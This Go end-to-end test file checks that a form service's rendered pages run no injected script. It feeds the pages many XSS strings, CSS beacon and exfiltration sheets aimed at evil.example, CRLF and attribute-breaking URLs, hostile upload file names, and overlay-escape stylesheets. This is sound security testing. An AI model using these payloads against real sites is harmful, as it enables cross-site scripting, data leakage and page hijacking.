package e2e

import (
	"encoding/json"
	"fmt"
	"html/template"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/formsvc/formsvc"
	"github.com/formsvc/formsvc/handler/formpage"
	"github.com/formsvc/formsvc/internal/lab/expect"
)

const pwn = `window.pwned=1`

// texts are what an author, or a respondent, may put where text is shown.
var texts = []string{
	`<script>` + pwn + `</script>`, `<img src=x onerror="` + pwn + `">`, `"><script>` + pwn + `</script>`, `'><script>` + pwn + `</script>`,
	`</title><script>` + pwn + `</script>`, `</textarea><script>` + pwn + `</script>`, `</style><script>` + pwn + `</script>`, `</select><script>` + pwn + `</script>`,
	`" autofocus onfocus="` + pwn + ``, `' onmouseover='` + pwn + ``, `" onload=` + pwn + ` x="`, `<svg onload=` + pwn + `>`, `<svg><script>` + pwn + `</script></svg>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>">`, `<iframe src="javascript:parent.pwned=1">`, `<object data="javascript:` + pwn + `">`, `<embed src="javascript:` + pwn + `">`,
	`<a href="javascript:` + pwn + `">x</a>`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<form action="https://evil.example/"><input name=x>`, `<input name=go value=next>`, `<button formaction="https://evil.example/">x</button>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=` + pwn + `>`,
	`<details open ontoggle=` + pwn + `>`, `<video><source onerror=` + pwn + `></video>`, `<body onload=` + pwn + `>`, `<marquee onstart=` + pwn + `>`, `<template><script>` + pwn + `</script></template>`,
	`{{.}}`, `{{"` + pwn + `"}}`, `${` + pwn + `}`, `<%= 1 %>`, `<!--<script>` + pwn + `</script>-->`, `--><script>` + pwn + `</script>`, `<![CDATA[<script>` + pwn + `</script>]]>`,
	"\u2028<script>" + pwn + "</script>", "<scr\u200bipt>" + pwn + "</script>", `&lt;script&gt;` + pwn + `&lt;/script&gt;`, `&#60;script&#62;` + pwn, `\x3cscript\x3e` + pwn, `\u003cscript\u003e` + pwn,
	`javascript:` + pwn, `data:text/html,<script>` + pwn + `</script>`, `%3Cscript%3E` + pwn + `%3C/script%3E`, `';` + pwn + `;//`, `";` + pwn + `;//`, "`;" + pwn + ";//", `]]>`, `</script><script>` + pwn + `</script>`,
	`<img src=https://evil.example/track.png>`, `<svg><use href="data:image/svg+xml,<svg onload=` + pwn + `>#x">`, `<x contenteditable onblur=` + pwn + ` tabindex=0 autofocus>`, `<noscript><p title="</noscript><img src=x onerror=` + pwn + `>">`,
	`[x](javascript:` + pwn + `)`, `[<img src=x onerror=` + pwn + `>](https://evil.example/)`, `**<script>` + pwn + `</script>**_<svg onload=` + pwn + `>_`, `[x](https://evil.example/"onfocus="` + pwn + `)`,
	`{{answers.typed}}<script>` + pwn + `</script>`, `**{{answers.typed}}** {{hidden.__proto__}}`, `{{answers.<script>` + pwn + `</script>}}`, `{{"><img src=x onerror=` + pwn + `>}}`, `{{hidden.constructor}}`,
	`![x](https://evil.example/md.png)`, `<https://evil.example/auto>`, "```html\n<script>" + pwn + "</script>\n```", `[x]: javascript:` + pwn, `JaVaScRiPt:` + pwn, `java&#9;script:` + pwn, `vbscript:` + pwn, `view-source:x`, `//evil.example/x`,
	`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img src=x onerror=` + pwn + `></foreignObject></svg>`, `<svg><a xlink:href="javascript:` + pwn + `"><text>x</text></a></svg>`, `<svg><animate onbegin=` + pwn + ` attributeName=x>`, `<svg><image href=https://evil.example/svg.png>`,
	`</template><script>` + pwn + `</script>`, `__proto__`, `constructor`, `toString`,
	`<select autofocus onfocus=` + pwn + `>`, `<style>@import url(https://evil.example/x.css)</style>`, `<style>*{background:url(https://evil.example/x)}</style>`,
}

// sheets are customCss.
var sheets = []string{
	`@import url(https://evil.example/a.css);`, `@import "https://evil.example/b.css";`, `@font-face{font-family:x;src:url(https://evil.example/f)} .fs{font-family:x}`,
	`.fs{background:url(https://evil.example/1)}`, `.q{background-image:url("https://evil.example/2")}`, `.q{background:image-set("https://evil.example/3" 1x)}`, `.q{background:u\72l(https://evil.example/4)}`,
	`.q{list-style-image:url(https://evil.example/5)}`, `.q{cursor:url(https://evil.example/6),auto}`, `.q::before{content:url(https://evil.example/7)}`, `.q{border-image:url(https://evil.example/8)}`,
	`.q{mask:url(https://evil.example/9)}`, `.q{filter:url(https://evil.example/10#x)}`, `input[value^="a"]{background:url(https://evil.example/11)}`, `.q{--x:url(https://evil.example/12);background:var(--x)}`,
	`@media all{.q{background:url(https://evil.example/13)}}`, `@supports (display:block){.q{background:url(https://evil.example/14)}}`, `.q{&{background:url(https://evil.example/15)}}`, `.q{src:url(https://evil.example/16)}`,
	`</style><script>` + pwn + `</script>`, `</style><img src=x onerror=` + pwn + `>`, `.q{color:red}</style><script>` + pwn + `</script><style>`, `.q{color:"</style><script>` + pwn + `</script>"}`,
	`.q{width:expression(` + pwn + `)}`, `.q{behavior:url(https://evil.example/17)}`, `.q{-moz-binding:url(https://evil.example/18)}`, `@namespace url(https://evil.example/19);`, `@page{background:url(https://evil.example/20)}`,
	`html,body,.fs{position:fixed;inset:0;z-index:2147483647}`, `.q{background:url(data:image/svg+xml,<svg onload="` + pwn + `">)}`, `.q{background:-webkit-cross-fade(url(https://evil.example/21),url(x),50%)}`, `.q{offset-path:url(https://evil.example/22)}`,
	`@layer a{.q{background:url(https://evil.example/23)}}`, `@container (min-width:1px){.q{background:url(https://evil.example/24)}}`, `@keyframes k{to{background:url(https://evil.example/25)}} .q{animation:k 1s}`, `.q{background:src("https://evil.example/26")}`,
}

// links are addresses that a write of a definition accepts.
var links = []string{
	`https://evil.example/"><script>window.pwned=1</script>`, `https://evil.example/'onerror='window.pwned=1`, `https://evil.example/)}*{background:url(https://evil.example/css)}`,
	`https://evil.example/</style><script>window.pwned=1</script>`, `https://evil.example/;script-src *`, `https://evil.example/%0d%0aX-Injected:1`, `https://evil.example/\");}body{color:red`, `https://a.evil.example/x.png?a=,b`,
	`http://evil.example:80/x`, `https://evil.example/?a=<script>window.pwned=1</script>`, `https://evil.example/?'"`, `https://evil.example/x?</style>`, `https://evil.example/x?);}*{background:url(//evil.example/css)}`, `https://user@evil.example/`, `https://[::1]/x`, `https://evil.example/{{.}}`,
}

func TestHostileFormsRunNothing(t *testing.T) {
	s := newSite(t, formpage.Config{})
	kinds := []string{"short_text", "long_text", "statement", "heading", "text", "legal", "group", "dropdown", "single_choice", "ranking", "matrix", "welcome", "date", "rating"}
	var blocks []map[string]any
	for i, text := range texts {
		kind := kinds[i%len(kinds)]
		block := map[string]any{"id": fmt.Sprintf("b%d%s", i, text), "type": kind, "label": text, "description": text, "properties": map[string]any{
			"placeholderText": text, "legalText": text, "otherOption": true, "otherText": text, "buttonText": text, "firstLabel": text, "leftLabel": true, "dateFormat": "DDMMYYYY", "dateSeparator": text,
		}}
		if len(block["id"].(string)) > 200 {
			block["id"] = fmt.Sprint("b", i)
		}
		choices := []map[string]any{{"id": text, "label": text, "color": text, "alt": text}}
		switch kind {
		case "dropdown", "single_choice", "ranking":
			block["choices"] = choices
		case "matrix":
			block["matrix_rows"], block["matrix_columns"] = choices, choices
		}
		blocks = append(blocks, block)
	}
	var accepted []string // others are refused when a definition is written
	for _, link := range links {
		raw, _ := json.Marshal([]map[string]any{{"id": "i", "type": "embed", "properties": map[string]any{"embedLink": link}}})
		if _, err := s.service.As(s.owner).CreateForm(t.Context(), formsvc.FormCreate{Workspace: s.place, Name: "x", Definition: formsvc.Definition{Blocks: raw}}); err == nil {
			accepted = append(accepted, link)
		}
	}
	t.Logf("%d texts, %d sheets, %d of %d links", len(texts), len(sheets), len(accepted), len(links))
	expect.Require(t, len(accepted) != 0 && len(texts)+len(sheets)+len(accepted) >= 100, "too few payloads")
	last := accepted[len(accepted)-1]
	for i, link := range accepted {
		blocks = append(blocks,
			map[string]any{"id": fmt.Sprint("img", i), "type": "image", "properties": map[string]any{"image": map[string]any{"url": link}, "imageAlt": link}},
			map[string]any{"id": fmt.Sprint("video", i), "type": "video", "properties": map[string]any{"videoLink": link}},
			map[string]any{"id": fmt.Sprint("embed", i), "type": "embed", "properties": map[string]any{"embedLink": link}},
			map[string]any{"id": fmt.Sprint("pdf", i), "type": "pdf", "properties": map[string]any{"pdfLink": link}},
		)
	}
	blocks = append(blocks, map[string]any{"id": "typed", "type": "short_text", "label": "Typed"})
	ending := map[string]any{"id": "end", "type": "ending", "label": texts[0], "description": texts[1], "properties": map[string]any{"buttonText": texts[2], "buttonLink": last, "shareButtons": true}}
	raw, _ := json.Marshal(append(blocks, ending))
	theme := map[string]any{
		"customCss": strings.Join(sheets, "\n"), "font": `x";}</style><script>window.pwned=1</script>`, "theme": texts[2], "coverHeight": "1px;} *{background:url(https://evil.example/t1)}",
		"logo": map[string]any{"url": last}, "background": map[string]any{"image": map[string]any{"url": accepted[0]}, "layout": texts[0]},
		"inputs": map[string]any{"background": "url(https://evil.example/t2)", "width": "1px}*{background:url(https://evil.example/t3)"}, "buttons": map[string]any{"background": "red;background:url(https://evil.example/t4)", "text": texts[0], "alignment": texts[1]},
		"layout": map[string]any{"pageWidth": texts[0], "baseFontSize": `</style>`}, "logoPlacement": map[string]any{"align": texts[0]},
	}
	look, _ := json.Marshal(theme)
	settings, _ := json.Marshal(map[string]any{"submitLabel": texts[0], "showTitle": true, "numberedQuestions": true, "cover": map[string]any{"color": "red;}", "image": map[string]any{"url": last}}})
	names, _ := json.Marshal(texts)
	form := s.publish(texts[0], "MULTI", formsvc.Definition{Blocks: raw, Settings: settings, Theme: look, HiddenFields: names})
	query := url.Values{}
	for i, text := range texts {
		query.Set(blocks[i]["id"].(string), texts[(i+7)%len(texts)])
		query.Set(text, texts[(i+3)%len(texts)])
		query.Set("utm_"+text, text)
	}
	query.Set("utm_source", texts[1])
	query.Set("typed", texts[0]) // is inserted into texts

	// Each sheet alone as well: one must not be saved by the faults of another.
	var urls []string
	for _, sheet := range sheets {
		one, _ := json.Marshal(map[string]any{"customCss": sheet})
		urls = append(urls, s.url(s.publish("Sheet", "MULTI", formsvc.Definition{Blocks: json.RawMessage(`[{"id":"a","type":"short_text","label":"A"}]`), Theme: one}), "?a=abc"))
	}
	urls = append(urls, s.url(form, ""), s.preview(form, ""), s.url(form, "?"+query.Encode()), s.url(form, "?lang="+"%3Cscript%3Ewindow.pwned=1%3C/script%3E"))

	b := newTab(t, 800, 800)
	for i, address := range urls {
		b.open(address)
		if i == len(urls)-1 { // with answers that are as hostile
			b.do(`document.querySelectorAll("input[type=text],input:not([type]),textarea").forEach((e,i) => { e.value = ` + quote(texts[1]) + ` + i })`)
			b.press("next")
		}
		b.until(`document.readyState==="complete"`)
		b.until(`window.pwned===undefined`)
		b.until(`!document.querySelector(".fs script,.fs iframe,.fs object,.fs base,.fs [onerror],.fs [onload],.fs [onfocus],.fs [style]")`)
		b.until(`[...document.querySelectorAll(".fs a[href]")].every(a => /^(https?:|mailto:|tel:)/.test(a.protocol))`)
	}
	asked, problems := b.requests.list()
	expect.That(t, len(problems) == 0, "problems: %q", problems)
	for _, address := range asked {
		own := strings.HasPrefix(address, s.server.URL+"/")
		// The author's pictures are asked for, as they were named and nowhere else.
		picture := strings.Contains(address, "evil.example") || strings.HasPrefix(address, "https://[::1]/x")
		if strings.Contains(address, "evil.example/t") || strings.Contains(address, ".css") && !own || picture && strings.HasPrefix(address, "https://evil.example/1") {
			t.Errorf("the style sheet asked for %s", address)
		}
		for _, part := range []string{"md.png", "svg.png", "track.png", "/auto"} {
			expect.That(t, own || !strings.Contains(address, part), "a text asked for %s", address)
		}
		expect.That(t, own || picture, "the page asked for %s", address)
	}
}

// The names of files are shown as text, and a picture that holds a script is not one.
func TestHostileFilesRunNothing(t *testing.T) {
	s := newSite(t, formpage.Config{})
	form := s.publish("Files", "MULTI", formsvc.Definition{Blocks: []byte(`[{"id":"f","type":"file_upload","label":"File","properties":{"multipleFiles":true}},{"id":"n","type":"short_text","label":"Name","required":true}]`)})
	dir := t.TempDir()
	var files []string
	for i, name := range []string{`<img src=x onerror=window.pwned=1>.txt`, `"onmouseover="window.pwned=1.txt`, `'><svg onload=window.pwned=1>.svg`, `{{.}}.html`, "\u202egnp.exe.txt", `javascript:window.pwned=1.txt`} {
		path := filepath.Join(dir, name)
		content := `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script></svg>`
		expect.NoError(t, os.WriteFile(path, fmt.Appendf(nil, "%s%d", content, i), 0o600))
		files = append(files, path)
	}
	for _, script := range []bool{true, false} {
		b := newTabOf(t, script, 800, 800)
		b.open(s.url(form, ""))
		b.run(chromedp.SetUploadFiles(chromedp.CSS(`[name="u.f"]`), files))
		b.press("next")
		b.until(`document.querySelectorAll(".fs-files li").length>0 || document.querySelector(".fs-fault")`)
		b.until(`window.pwned===undefined && !document.querySelector(".fs-files img,.fs-files svg,.fs-drop img,.fs [onmouseover],.fs [onerror]")`)
		_, problems := b.requests.list()
		expect.That(t, len(problems) == 0, "problems: %q", problems)
	}
}

// escapes are sheets that are made to get out of the form.
var escapes = []string{
	`.fs{margin-top:-500px}`, `.fs{margin:-200px}`, `.fs{transform:translateY(-300px) scale(5)}`, `.fs{transform:scale(20)}`, `.fs{outline:900px solid red}`,
	`.fs{box-shadow:0 0 0 900px red}`, `.fs *{margin-top:-900px!important}`, `.fs{transform:translate(-50%,-50%) rotate(45deg) scale(3)}`, `.fs{margin-block:-900px}`,
	`.fs{height:200px;margin-bottom:-900px}.fs *{outline:3000px solid red;outline-offset:-1px}`, `.fs{float:left;width:300vw;margin:-50vh -50vw}`, `.fs{display:inline-block;vertical-align:500px;line-height:0}`,
	`.fs-main{transform:translateY(-100vh) scale(9)}.fs-label{text-shadow:0 -400px red;font-size:900px;line-height:0}`, `.fs{display:contents}.fs-main{margin-top:-600px}`,
}

// sheet makes a sheet of the properties that properties.txt allows, with values that reach far.
func sheet(random *rand.Rand, properties []string) string {
	pick := func(list ...string) string { return list[random.IntN(len(list))] }
	far := func() string {
		return fmt.Sprint(random.IntN(4001)-2000) + pick("px", "px", "vh", "vw", "%", "em")
	}
	var b strings.Builder
	for range 1 + random.IntN(3) {
		b.WriteString(pick(".fs", ".fs", "html", "body", ".fs *", ".fs-main", ".fs-form", ".q", ".fs-progress", ".fs > *", "*") + "{")
		for range 1 + random.IntN(8) {
			property := pick(properties...)
			var value string
			switch {
			case property == "transform":
				value = pick("translate(", "translatex(", "translatey(") + far() + ") " + pick("scale(", "scale(-") + fmt.Sprint(1+random.IntN(30)) + ")" + pick("", " rotate(45deg)", " skew(60deg)")
			case property == "box-shadow":
				value = far() + " " + far() + " 0 900px red"
			case property == "outline":
				value = fmt.Sprint(random.IntN(3000)) + "px solid red"
			case property == "display":
				value = pick("contents", "inline", "inline-block", "flex", "grid", "table", "block", "flow-root")
			case property == "float":
				value = pick("left", "right")
			case strings.Contains(property, "margin"), strings.Contains(property, "offset"), property == "vertical-align", property == "text-indent", strings.Contains(property, "spacing"):
				value = far()
			default:
				value = pick(far(), pick("auto", "none", "0", "1", "visible", "red", "inherit", "center", "stretch", "max-content", "min-content"))
			}
			b.WriteString(property + ":" + value + pick("", "!important") + ";")
		}
		b.WriteString("}")
	}
	return b.String()
}

// No sheet of an author gets over the host's header and footer, or over the bar of a preview.
func TestSheetsStayInTheForm(t *testing.T) {
	source := expect.Must(os.ReadFile("../../../handler/formpage/internal/theme/properties.txt"))
	properties := strings.Fields(string(source))
	expect.Require(t, len(properties) >= 100, "the list of properties is not found")
	s := newSite(t, formpage.Config{Layout: template.Must(template.New("").Parse(`<!doctype html><html lang="{{.Language}}"><head><title>{{.Title}}</title>
		<style nonce="{{.Nonce}}">body{margin:0}header,footer{height:80px;background:#eee}</style>{{.Head}}</head><body><header>The host</header>{{.Body}}<footer>Also the host</footer></body></html>`))})
	form := s.publish("Sheets", "MULTI", formsvc.Definition{
		Blocks:   json.RawMessage(`[{"id":"a","type":"short_text","label":"A"},{"id":"b","type":"yes_no","label":"B"},{"id":"break","type":"page_break"},{"id":"c","type":"long_text","label":"C"}]`),
		Settings: json.RawMessage(`{"navigation":true,"progressBar":true,"showTitle":true}`),
	})
	random := rand.New(rand.NewPCG(22, 7)) // the same sheets each time
	sheets := append([]string(nil), escapes...)
	for len(sheets) < 100 {
		sheets = append(sheets, sheet(random, properties))
	}
	b := newTab(t, 360, 700)
	written := 0
	for _, sheet := range sheets {
		theme, _ := json.Marshal(map[string]string{"customCss": sheet}) // a string
		expect.Must(s.service.As(s.owner).UpdateForm(t.Context(), form.ID, formsvc.FormUpdate{Definition: formsvc.Definition{Theme: theme}}))
		b.run(chromedp.Navigate(s.preview(form, "")))
		for _, width := range []int64{360, 1280} {
			b.size(width, 700)
			b.until(fmt.Sprintf("innerWidth===%d", width))
			over := get(b, chromedp.Evaluate[string](`(() => {
				const over = [];
				for (const e of document.querySelectorAll("header,.fs-preview,footer")) {
					e.scrollIntoView({block: "center"});
					const r = e.getBoundingClientRect();
					for (const x of [1, r.width/4, r.width/2, r.width*3/4, r.width-1]) for (const y of [2, r.height/2, r.height-2]) {
						const at = document.elementFromPoint(r.left + x, r.top + y);
						if (!e.contains(at)) over.push((at ? at.tagName + "." + at.className : "nothing") + " is over " + e.tagName);
					}
				}
				return [...new Set(over)].slice(0, 3).join("; ");
			})()`))
			expect.That(t, over == "", "%d px: %s: %s", width, over, sheet)
		}
		if get(b, chromedp.Evaluate[bool](`[...document.querySelectorAll("style[nonce]")].some(e => e.textContent.includes("}\n.fs") && /\n\.fs[^\n]*$/.test(e.textContent))`)) {
			written++
		}
	}
	expect.That(t, written >= 80, "%d of %d sheets were written into the page", written, len(sheets))
}
